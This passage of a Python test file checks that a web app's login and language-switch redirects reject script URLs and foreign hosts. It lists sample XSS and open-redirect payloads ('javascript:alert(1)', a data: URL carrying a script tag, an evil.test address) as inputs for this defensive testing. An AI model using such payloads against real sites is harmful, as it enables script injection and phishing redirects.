    form = EventAdminForm(data={**data, "online_url": "https://meet.example.test/x", "organiser_url": ""})
    assert form.is_valid(), form.errors  # the same form with a web address is fine: the URL was the problem


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://evil.test/"]
)
def test_redirects_never_follow_a_script_or_foreign_next(client, make_user, password, url: str) -> None:
    user = make_user("tamu@hostile.test")

    login = client.post("/akun/login/?next=" + _quote(url), {"login": user.email, "password": password})
    language = client.post("/i18n/setlang/", {"language": "en", "next": url})

    for response in (login, language):
        assert response.status_code == 302
        assert not SCRIPT_SCHEME.match(response["Location"]) and "evil.test" not in response["Location"]


def _quote(value: str) -> str:
    from urllib.parse import quote

    return quote(value, safe="")
